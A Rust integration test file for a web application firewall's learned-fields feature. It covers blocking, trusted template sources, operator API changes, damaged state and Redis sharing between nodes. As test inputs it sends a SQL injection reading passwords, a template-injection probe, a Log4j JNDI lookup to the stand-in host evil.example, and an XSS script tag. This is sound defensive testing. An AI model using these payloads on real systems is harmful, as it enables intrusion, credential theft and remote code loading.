//! Learned fields in the real program: what teaches it, what is refused, and what is kept.

use std::path::Path;
use std::process::{Command, Output};

use portcullis_testkit::client::exchange;
use portcullis_testkit::shared_store::{Kind, SharedStore};
use serde_json::{Value, json};

use crate::revisions::Managed;
use crate::served::{PATIENCE, Served, Server, application, program, says, until};

/// `4;7`: nothing but the field says that it does not belong there.
const SIGNS: &str = "4%3B7";

fn command(arguments: &[&str], data: &Path) -> Output {
    Command::new(program()).args(arguments).arg("--data").arg(data).output().unwrap()
}

fn text(output: &Output) -> String {
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).into_owned()
}

/// Thirty requests of benign users, as JSON lines.
fn recorded(folder: &Path) -> String {
    let lines = (0..30).map(|number| {
        let request = format!("GET /item?id={number} HTTP/1.1\r\nHost: a\r\n\r\n");
        format!("{}\n", serde_json::json!({ "request": request }))
    });
    let file = folder.join("requests.jsonl");
    std::fs::write(&file, lines.collect::<String>()).unwrap();
    file.display().to_string()
}

fn start(application: &Server, unusual: &str, data: &Path) -> Served {
    let site = format!("mode = \"semantic\"\nfields = {{ unusual = \"{unusual}\" }}");
    Served::start_site(application, &site, &format!("[data]\nfolder = \"{}\"\n", data.display()))
}

fn taught(application: &Server, unusual: &str, data: &Path) -> Served {
    let said = text(&command(&["learn", &recorded(data), "--site", "site", "--values", "20"], data));
    assert_eq!(said, "30 requests\n1 fields, 1 of them closed, for site site\n");
    start(application, unusual, data)
}

#[test]
fn values_unlike_their_field() {
    let application = application(|_| says("hello"));
    let data = tempfile::tempdir().unwrap();
    let served = taught(&application, "block", data.path());
    assert_eq!(served.metric("portcullis_learned_fields{site=\"site\",state=\"closed\"}"), 1.0);
    for (target, status) in [
        ("/item?id=7", 200),
        (&format!("/item?id={SIGNS}"), 403),
        (&format!("/Item/?ID={SIGNS}"), 403),
        (&format!("/%69tem//?id%5B0%5D={SIGNS}"), 403),
        (&format!("/other?id={SIGNS}"), 200),
        (&format!("/item?q={SIGNS}"), 200),
        ("/item?id=seven", 200),
    ] {
        assert_eq!(served.get(target).status(), status, "{target}");
    }
    let form = served.post("/item", "application/x-www-form-urlencoded", format!("id={SIGNS}"));
    assert_eq!(form.status(), 403, "in another place, by another method");
    served.counts("portcullis_unusual_values_total{site=\"site\"}", 5.0);
    let events: Vec<Value> =
        served.events(5).iter().map(|line| serde_json::from_str(line).unwrap()).collect();
    let first = &events[0];
    assert_eq!((&first["verdict"]["action"], &first["verdict"]["class"]), (&"deny".into(), &"field".into()));
    let finding = &first["findings"][0];
    assert_eq!(finding["kind"], "field.unusual-syntax");
    let evidence = finding["evidence"].as_str().unwrap();
    assert!(evidence.starts_with("whole numbers only: 30 values of 30 networks in 1 day"), "{evidence}");
    let letters = events.iter().find(|event| event["request"]["target"] == "/item?id=seven").unwrap();
    assert_eq!(letters["verdict"]["action"], "detect");
    assert_eq!(letters["findings"][0]["kind"], "field.unusual");
}

/// Where values are only detected, nothing is refused; where they are not looked for, nothing is said.
/// Segments of paths, an application's own header fields, and cookies that the site has not issued are
/// fields, too. Signs of code alone have nobody refused for what comes with every request to the site.
#[test]
fn paths_headers_and_cookies() {
    let application = application(|_| {
        let mut answer = says("hello");
        answer.headers.push(("Set-Cookie".to_owned(), "seen=it's;".to_owned()));
        answer
    });
    let data = tempfile::tempdir().unwrap();
    let lines = (0..30).map(|number| {
        let request = format!(
            "GET /users/{number}/posts HTTP/1.1\r\nHost: a\r\nAccept: {number}\r\nX-Build: {number}\r\n\
             Cookie: width={number}; seen={number}\r\n\r\n"
        );
        format!("{}\n", json!({ "request": request }))
    });
    let file = data.path().join("requests.jsonl");
    std::fs::write(&file, lines.collect::<String>()).unwrap();
    let file = file.display().to_string();
    let said = text(&command(&["learn", &file, "--site", "site", "--values", "20"], data.path()));
    assert_eq!(said, "30 requests\n4 fields, 4 of them closed, for site site\n");
    let served = start(&application, "block", data.path());
    let status = |target: &str, header: &str| {
        let request = format!("GET {target} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n{header}\r\n\r\n");
        served.raw(&request).status()
    };
    for (target, header, expected) in [
        ("/users/7/posts", "X-Build: 7", 200),
        ("/users/list", "Accept: 4;7", 200),
        ("/users/4%3B7/posts", "X-Build: 7", 200),
        ("/users/4'7/posts", "X-Build: 7", 403),
        ("/users/4'7", "X-Build: 7", 403),
        ("/other/4'7", "X-Build: 7", 200),
        ("/", "X-Build: 4'7", 200),
        ("/", "Cookie: width=4'7", 200),
        ("/", "Cookie: seen=it's", 200),
        ("/", "X-Build: 4' or", 403),
        ("/", "Cookie: width=4' or", 403),
    ] {
        assert_eq!(status(target, header), expected, "{target} {header}");
    }
    let events: Vec<Value> =
        served.events(6).iter().map(|line| serde_json::from_str(line).unwrap()).collect();
    let found: Vec<(&str, &str, &str)> = events
        .iter()
        .flat_map(|event| event["findings"].as_array().unwrap())
        .filter(|found| found["class"] == "field")
        .map(|found| {
            let text = |key: &str| found[key].as_str().unwrap();
            (text("kind"), text("place"), text("name"))
        })
        .collect();
    let expected = [
        ("field.unusual-syntax", "path-segment", "/users"),
        ("field.unusual-syntax", "path-segment", "/users"),
        ("field.unusual", "header", "X-Build"),
        ("field.unusual", "cookie", "width"),
        ("field.unusual-suspicious", "header", "X-Build"),
        ("field.unusual-suspicious", "cookie", "width"),
    ];
    assert_eq!(found, expected);
}

#[test]
fn detecting_and_learning_only() {
    let application = application(|_| says("hello"));
    for (unusual, events) in [("detect", 1), ("off", 0)] {
        let data = tempfile::tempdir().unwrap();
        let served = taught(&application, unusual, data.path());
        assert_eq!(served.get(&format!("/item?id={SIGNS}")).status(), 200, "{unusual}");
        assert_eq!(served.get("/item?id=1'+union+select+password+from+users--+-").status(), 403);
        let told = served.events(events + 1);
        assert!(events == 0 || told[0].contains("field.unusual-syntax"), "{told:?}");
        assert_eq!(told.len(), events + 1, "{told:?}");
    }
}

/// What was refused, or answered with an error, teaches nothing; what was answered well is kept.
#[test]
fn what_teaches() {
    let application = application(|request| match request.target.starts_with("/missing") {
        true => crate::served::Response { status: 404, ..says("") },
        false => says("hello"),
    });
    let data = tempfile::tempdir().unwrap();
    let served = start(&application, "block", data.path());
    for target in ["/a?x=1", "/a?x=2", "/missing?x=1", "/b?x=1'+union+select+password+from+users--+-"] {
        served.get(target);
    }
    served.stop();
    let listed = text(&command(&["learned", "--json"], data.path()));
    let fields: Vec<Value> = listed.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    assert_eq!(fields.len(), 1, "{listed}");
    assert_eq!((&fields[0]["path"], &fields[0]["values"]), (&"/a".into(), &2.into()));
    assert_eq!((&fields[0]["networks"], &fields[0]["closed"]), (&1.into(), &Value::Null));
    assert_eq!(fields[0]["types"][0]["type"], "whole");
    // Another instance takes it over.
    let other = tempfile::tempdir().unwrap();
    let export = other.path().join("export.json");
    let output = export.display().to_string();
    text(&command(&["learned", "export", "site", "--output", &output], data.path()));
    text(&command(&["learned", "import", "site", &output], other.path()));
    start(&application, "block", other.path()).stop();
    let again = text(&command(&["learned", "--json"], other.path()));
    assert_eq!(again, listed);
}

/// A file of what was learned that is damaged is set aside and reported, and the site is served.
#[test]
fn damaged_state() {
    let application = application(|_| says("hello"));
    let data = tempfile::tempdir().unwrap();
    let folder = data.path().join("learned");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("site.json"), "{\"format\":\"portcullis-learned\",\"version\":1}").unwrap();
    std::fs::write(folder.join("site.1-1.import"), "not JSON").unwrap();
    let served = start(&application, "block", data.path());
    assert_eq!(served.get("/a?x=1").status(), 200);
    let said = std::fs::read_to_string(served.folder.path().join("output")).unwrap();
    assert!(said.contains("what was learned is damaged") && said.contains("learning begins anew"), "{said}");
    served.stop();
    let names: Vec<_> = std::fs::read_dir(&folder).unwrap().map(|entry| entry.unwrap().file_name()).collect();
    for name in ["site.json", "site.json.damaged", "site.1-1.import.damaged"] {
        assert!(names.iter().any(|there| there == name), "{name}: {names:?}");
    }
}

/// What an operator decides in the API holds at once, is on disk with the answer, and after a restart.
#[test]
fn an_operator_decides_about_a_field() {
    let application = application(|_| says("hello"));
    let folder = tempfile::tempdir().unwrap();
    let data = folder.path().join("data");
    std::fs::create_dir(&data).unwrap();
    text(&command(&["learn", &recorded(folder.path()), "--site", "site", "--values", "20"], &data));
    let site = "mode = \"semantic\"\nfields = { unusual = \"block\" }";
    let managed = Managed::start(folder.path(), application.address(), site, "");
    let status = |managed: &Managed| {
        let request = format!("GET /item?id={SIGNS} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n");
        exchange(managed.address, None, request.as_bytes(), PATIENCE).unwrap().status
    };
    let kept = |name: &str| {
        let listed = text(&command(&["learned", "--json"], &data));
        listed
            .lines()
            .map(|line| serde_json::from_str::<Value>(line).unwrap()[name].clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(status(&managed), 403);
    let (_, sites) = managed.ask("GET", "/fields/sites", &Value::Null);
    assert_eq!((&sites["items"][0]["unusual"], &sites["items"][0]["closed"]), (&json!("block"), &json!(1)));
    let (_, listed) = managed.ask("GET", "/fields?site=site&state=closed", &Value::Null);
    assert_eq!((&listed["total"], &listed["items"][0]["closed_as"]), (&json!(1), &json!("whole")));
    assert_eq!(
        listed["items"][0]["types"],
        json!([{"type": "whole", "values": 30, "networks": 30, "days": 1}])
    );
    // As an event names it.
    let find = "/fields/find?site=site&method=HEAD&path=/Item//x.html&place=form&name=ID%5B0%5D";
    let (found, field) = managed.ask("GET", find, &Value::Null);
    assert_eq!((found, &field["path"], &field["name"]), (200, &json!("/item"), &json!("id")));
    let at = json!({"site": "site", "method": "GET", "path": "/item", "place": "query", "name": "id"});
    let order = |managed: &Managed, order: &str| managed.ask("POST", &format!("/fields/{order}"), &at);
    let (answer, changed) = order(&managed, "keep-open");
    assert_eq!(
        (answer, &changed["field"]["state"], &changed["message"]),
        (200, &json!("kept_open"), &Value::Null)
    );
    assert_eq!((status(&managed), kept("kept_open")), (200, vec![json!(true)]));
    let (address, document) = (managed.address, managed.document.clone());
    managed.stop();
    let managed = Managed::start_again(folder.path(), address, document);
    assert_eq!(status(&managed), 200);
    let (answer, changed) = order(&managed, "close");
    // What was unusual in it until now was sent while it was open, and is not of one plain type.
    assert_eq!((answer, changed["title"].is_string()), (409, true));
    assert_eq!(order(&managed, "forget").0, 200);
    assert_eq!((kept("name"), order(&managed, "forget").0), (Vec::<Value>::new(), 404));
    let (_, audit) = managed.ask("GET", "/audit", &Value::Null);
    let actions = audit["items"].as_array().unwrap().iter().filter_map(|entry| entry["action"].as_str());
    let actions: Vec<&str> = actions.filter(|action| action.starts_with("field.")).collect();
    assert_eq!(actions, ["field.forget", "field.keep-open"]);
    managed.stop();
}

/// What the template editor of a site sends.
const TEMPLATE: &str = "text=Dear+%7B%7B7*7%7D%7D";
const FORM: &str = "application/x-www-form-urlencoded";

fn start_with(application: &Server, site: &str, data: &Path) -> Served {
    let site = format!("mode = \"semantic\"\n{site}");
    Served::start_site(application, &site, &format!("[data]\nfolder = \"{}\"\n", data.display()))
}

/// The kinds that a site has learned, from the list.
fn kinds(data: &Path) -> Vec<Value> {
    let listed = text(&command(&["learned", "site", "--kinds", "--json"], data));
    let fields = listed.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    fields.flat_map(|field| field["kinds"].as_array().unwrap().clone()).collect()
}

/// A field in which a trusted source sends templates is proposed, accepted, and revoked; only it, and only
/// for what it carries.
#[test]
fn a_field_that_carries_code() {
    let application = application(|_| says("hello"));
    let data = tempfile::tempdir().unwrap();
    let trusted = "fields = { trusted = { networks = [\"127.0.0.0/8\"] } }";
    let served = start_with(&application, trusted, data.path());
    let post = |target: &str, body: &str| served.post(target, FORM, body).status();
    for _ in 0..3 {
        assert_eq!(post("/mails", TEMPLATE), 403);
    }
    served.counts("portcullis_learned_kinds{site=\"site\",state=\"proposed\"}", 2.0);
    served.stop();
    let proposed = kinds(data.path());
    assert_eq!(proposed.len(), 2, "{proposed:?}");
    assert_eq!((&proposed[0]["kind"], &proposed[0]["trusted"]), (&"template.arithmetic".into(), &3.into()));
    let id = proposed[0]["id"].as_str().unwrap();
    let unknown = command(&["learned", "accept", "site", "0000000000"], data.path());
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("help: `portcullis learned site --kinds"));

    let served = start_with(&application, trusted, data.path());
    let live = "portcullis_learned_kinds{site=\"site\",state=\"live\"}";
    let said = text(&command(&["learned", "accept", "site", id], data.path()));
    assert!(said.starts_with("template.arithmetic in form:text of POST /mails will be live"), "{said}");
    served.counts(live, 1.0);
    let post = |target: &str, body: &str| served.post(target, FORM, body).status();
    assert_eq!(post("/mails", TEMPLATE), 200);
    for (target, body) in [
        ("/mails", "title=Dear+%7B%7B7*7%7D%7D"),
        ("/other", TEMPLATE),
        ("/mails;/x", TEMPLATE),
        ("//mails", TEMPLATE),
        ("/mails?text=%7B%7B7*7%7D%7D", ""),
        ("/mails", "text=Dear+%7B%7B7*7%7D%7D+%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
        ("/mails", "text=Dear+%7B%7B7*7%7D%7D+%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ] {
        assert_eq!(post(target, body), 403, "{target} {body}");
    }
    // The finding stays in the event, with the reason why it does not count.
    let events = served.events(7);
    let last: Value = serde_json::from_str(events.last().unwrap()).unwrap();
    let findings = last["findings"].as_array().unwrap();
    let learned = findings.iter().find(|found| found["kind"] == "template.arithmetic").unwrap();
    assert_eq!(learned["suppressed_by"]["exception"], "learned-field");
    let reason = learned["suppressed_by"]["reason"].as_str().unwrap();
    assert!(
        reason.starts_with("the field carries it: ") && reason.contains("of trusted sources"),
        "{reason}"
    );
    text(&command(&["learned", "dismiss", "site", id], data.path()));
    served.counts(live, 0.0);
    assert_eq!(post("/mails", TEMPLATE), 403);
}

/// With `auto`, what trusted sources send is live at once; kinds that act wherever they stand never are.
#[test]
fn fields_open_by_themselves() {
    let application = application(|_| says("hello"));
    let data = tempfile::tempdir().unwrap();
    let auto = "fields = { auto = true, trusted = { networks = [\"127.0.0.1\"] } }";
    let served = start_with(&application, auto, data.path());
    let lookup = "text=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
    for _ in 0..3 {
        assert_eq!(served.post("/mails", FORM, TEMPLATE).status(), 403);
    }
    served.counts("portcullis_learned_kinds{site=\"site\",state=\"live\"}", 2.0);
    assert_eq!(served.post("/mails", FORM, TEMPLATE).status(), 200);
    for _ in 0..4 {
        assert_eq!(served.post("/mails", FORM, lookup).status(), 403);
    }
    served.stop();
    let learned = kinds(data.path());
    assert!(learned.iter().all(|kind| !kind["kind"].as_str().unwrap().starts_with("log4j.")), "{learned:?}");
}

/// Of others only those teach who have a session that the site has set, or whom the application names in its
/// answer.
#[test]
fn who_teaches_kinds() {
    let application = application(|request| {
        let cookie = String::from_utf8_lossy(request.header("cookie").unwrap_or_default());
        let mut answer = says("hello");
        if request.target == "/login" {
            for cookie in [
                "session=0123456789abcdef",
                "Wiki=0123456789abcdefghij",
                "style=wide-and-dark-as-a-night",
                "blog_logged_in_x=ann-and-a-long-signature",
                "logged_in=yes",
            ] {
                answer.headers.push(("Set-Cookie".to_owned(), cookie.to_owned()));
            }
        }
        if cookie.contains("editor") {
            answer.headers.push(("X-Role".to_owned(), "editor-in-chief".to_owned()));
        }
        answer
    });
    let role = "fields = { trusted = { answer_header = { name = \"X-Role\", value = \"editor*\" } } }\n\
                semantic = { classes = { template = \"log\" } }";
    for (cookie, state) in [
        ("session=0123456789abcdef", Some("seen")),
        ("session=made-up", None),
        ("Wiki=0123456789abcdefghij", Some("seen")),
        ("Wiki=made-up-0123456789abcdef", None),
        ("style=wide-and-dark-as-a-night", None),
        ("blog_logged_in_x=ann-and-a-long-signature", Some("seen")),
        ("blog_logged_in_x=bob-and-a-long-signature", None),
        ("logged_in=yes", None),
        ("theme=dark", None),
        ("theme=editor", Some("proposed")),
    ] {
        let data = tempfile::tempdir().unwrap();
        let served = start_with(&application, role, data.path());
        served.get("/login");
        let request = format!(
            "POST /mails HTTP/1.1\r\nHost: a\r\nCookie: {cookie}\r\nX-Role: editor\r\nContent-Type: {FORM}\r\n\
             Content-Length: {}\r\nConnection: close\r\n\r\n{TEMPLATE}",
            TEMPLATE.len()
        );
        for _ in 0..3 {
            assert_eq!(served.raw(&request).status(), 200, "{cookie}");
        }
        // A field that anybody teaches, so that there is something to be kept.
        assert_eq!(served.get("/item?id=7").status(), 200);
        served.stop();
        let listed = text(&command(&["learned", "site", "--json"], data.path()));
        let fields = listed.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        let kinds: Vec<Value> = fields.flat_map(|field| field["kinds"].as_array().unwrap().clone()).collect();
        assert_eq!(kinds.first().map(|kind| kind["state"].as_str().unwrap()), state, "{cookie}");
    }
}

/// Of a field in which people write code the plain values alone would be learned: what was refused keeps it
/// open.
#[test]
fn refused_requests_keep_a_field_open() {
    let application = application(|_| says("hello"));
    let data = tempfile::tempdir().unwrap();
    let of =
        |target: &str| json!({ "request": format!("GET {target} HTTP/1.1\r\nHost: a\r\n\r\n") }).to_string();
    let mut lines: Vec<String> =
        (0..30).map(|number| of(&format!("/edit?id={number}&content={number}"))).collect();
    lines.push(of("/edit?id=1&content=1'+union+select+password+from+users--+-"));
    let file = data.path().join("requests.jsonl");
    std::fs::write(&file, lines.join("\n")).unwrap();
    let file = file.display().to_string();
    let said = text(&command(&["learn", &file, "--site", "site", "--values", "20"], data.path()));
    assert!(said.contains("31 requests, of which 1 would be refused"), "{said}");
    assert!(said.contains("2 fields, 1 of them closed"), "{said}");
    let served = start(&application, "block", data.path());
    for (target, status) in [
        (format!("/edit?id={SIGNS}"), 403),
        (format!("/edit?content={SIGNS}"), 200),
        ("/edit?id=7".into(), 200),
    ] {
        assert_eq!(served.get(&target).status(), status, "{target}");
    }
    // Those of clients count, too, and are kept.
    served.get("/edit?id=1'+union+select+password+from+users--+-");
    served.stop();
    let listed = text(&command(&["learned"], data.path()));
    assert!(listed.contains("kept open by 1 refused requests of 1 networks"), "{listed}");
    let kept = std::fs::read_to_string(data.path().join("learned/site.json")).unwrap();
    assert_eq!(kept.matches("\"refused\"").count(), 2, "{kept}");
}

/// Requests of twenty networks over eight days, as JSON lines with clients and times.
fn of_clients(folder: &Path, first: u32) -> String {
    let lines = (0..200).map(|number| {
        let request = format!("GET /item?id={number} HTTP/1.1\r\nHost: a\r\n\r\n");
        let client = format!("10.0.{}.7", first + number % 20);
        let time = format!("2026-11-{:02}T08:00:00.000Z", 10 + number % 8);
        format!("{}\n", json!({ "request": request, "client": client, "time": time }))
    });
    let file = folder.join(format!("clients-{first}.jsonl"));
    std::fs::write(&file, lines.collect::<String>()).unwrap();
    file.display().to_string()
}

/// Where nobody vouches for recorded requests, networks and days count as in the proxy.
#[test]
fn recorded_requests_that_nobody_vouches_for() {
    let data = tempfile::tempdir().unwrap();
    let (some, others) = (of_clients(data.path(), 0), of_clients(data.path(), 20));
    let learn = |files: &[&str]| {
        let site = ["--site", "site", "--by-clients"];
        text(&command(&[&["learn"], files, &site].concat(), data.path()))
    };
    assert_eq!(learn(&[&some]), "200 requests\n1 fields, 0 of them closed, for site site\n");
    assert_eq!(learn(&[&some, &some]), "400 requests\n1 fields, 0 of them closed, for site site\n");
    assert_eq!(learn(&[&some, &others]), "400 requests\n1 fields, 1 of them closed, for site site\n");
}

/// Each node alone has seen too few networks, both together enough. What somebody else writes into Redis
/// changes nothing, and without Redis what is known stays.
#[test]
fn nodes_share_what_they_have_learned() {
    let application = application(|_| says("hello"));
    let redis = SharedStore::start(Kind::Redis, None).unwrap();
    let folders = [tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap()];
    let nodes: Vec<Served> = folders
        .iter()
        .zip([0, 20])
        .map(|(data, first)| {
            let requests = of_clients(data.path(), first);
            text(&command(&["learn", &requests, "--site", "site", "--by-clients"], data.path()));
            let site = "mode = \"semantic\"\nfields = { unusual = \"block\" }";
            let folder = data.path().display();
            let more = format!("[data]\nfolder = \"{folder}\"\n[store]\nredis = \"{}\"\n", redis.url());
            Served::start_site(&application, site, &more)
        })
        .collect();
    let closed = "portcullis_learned_fields{site=\"site\",state=\"closed\"}";
    for node in &nodes {
        node.counts("portcullis_learned_redis_connected", 1.0);
        node.counts(closed, 1.0);
        assert_eq!(node.get(&format!("/item?id={SIGNS}")).status(), 403);
    }
    let client = portcullis_resp::Client::new(&redis.url()).unwrap();
    let limits = portcullis_resp::Limits { bytes_max: 1 << 20, values_max: 100 };
    let mut connection = client.connect(PATIENCE, limits).unwrap();
    let keys =
        connection.ask(&portcullis_resp::Command::new("KEYS").arg(b"*learned:site"), PATIENCE).unwrap();
    let entry = keys.items().remove(0).text().unwrap();
    let now =
        std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_millis().to_string();
    let mut write = |command: &str, key: &[u8], more: &[&[u8]]| {
        let command =
            more.iter().fold(portcullis_resp::Command::new(command).arg(key), |all, part| all.arg(part));
        connection.ask(&command, PATIENCE).unwrap();
    };
    let long = vec![b'x'; 9 << 20];
    for (name, text) in [("00000000000000aa", &b"{\"format\":"[..]), ("00000000000000bb", &long)] {
        write("SET", &[&entry, &b":"[..], name.as_bytes()].concat(), &[text]);
        write("HSET", &entry, &[name.as_bytes(), now.as_bytes()]);
    }
    let list = "00000000000000cc";
    write("LPUSH", &[&entry, &b":"[..], list.as_bytes()].concat(), &[b"x"]);
    write("HSET", &entry, &[list.as_bytes(), now.as_bytes()]);
    for node in &nodes {
        node.counts("portcullis_learned_shared_total{result=\"refused\"}", 3.0);
        node.counts(closed, 1.0);
    }
    let url = redis.url();
    drop(redis); // killed
    for node in &nodes {
        until(|| node.metric("portcullis_learned_redis_failures_total") > 0.0);
        assert_eq!(node.get(&format!("/item?id={SIGNS}")).status(), 403);
    }
    // What the other node has told is known after a restart, too.
    for (node, data) in nodes.into_iter().zip(&folders) {
        node.stop();
        let site = "mode = \"semantic\"\nfields = { unusual = \"block\" }";
        let folder = data.path().display();
        let more = format!("[data]\nfolder = \"{folder}\"\n[store]\nredis = \"{url}\"\n");
        let again = Served::start_site(&application, site, &more);
        assert_eq!(again.get(&format!("/item?id={SIGNS}")).status(), 403);
        again.stop();
    }
}
